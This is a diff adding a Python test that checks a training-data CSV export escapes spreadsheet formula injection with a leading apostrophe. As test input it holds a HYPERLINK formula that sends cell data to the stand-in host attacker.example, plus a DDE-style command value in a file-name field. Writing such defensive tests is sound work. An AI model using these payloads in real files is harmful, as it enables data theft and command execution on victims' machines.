@@ -273,6 +273,41 @@ def test_approved_data_exports_as_jsonl_and_csv(client) -> None:  # type: ignore
     assert (bad.status_code, bad.json()["code"]) == (422, "invalid")
 
 
+def test_an_exported_csv_opens_in_a_spreadsheet_as_text_never_as_a_formula(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    import csv
+    import io
+
+    from core.db import make_engine, migrate, session_scope
+    from core.db.tables import TrainingExample
+    from core.services.export import export_examples
+
+    engine = make_engine(f"sqlite:///{tmp_path / 'export.db'}")
+    migrate(engine)
+    # Given an example whose text and file name a spreadsheet would run as formulas (anyone who
+    # can upload a document can write them)
+    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"open") This lease binds the tenant.'
+    with session_scope(engine) as session:
+        session.add(
+            TrainingExample(
+                text=formula,
+                content_hash="h",
+                label="legal",
+                source="import",
+                origin="@SUM(1+1)*cmd|calc.txt",
+            )
+        )
+    # When it is exported as CSV
+    body = export_examples(engine=engine, fmt="csv").body
+    row = next(row for row in csv.reader(io.StringIO(body)) if row[0] != "id")
+    # Then the cells are text to a spreadsheet (a leading apostrophe), their words unchanged
+    assert row[-1] == "'" + formula
+    assert row[4] == "'@SUM(1+1)*cmd|calc.txt"
+    assert row[1:3] == ["legal", "import"]
+    # And the JSONL export, read by programs, keeps the text exactly
+    assert formula in export_examples(engine=engine, fmt="jsonl").body.replace('\\"', '"')
+    engine.dispose()
+
+
 def test_approving_corrections_keeps_one_label_per_document_and_only_active_industries(
     client, runtime
 ) -> None:  # type: ignore[no-untyped-def]
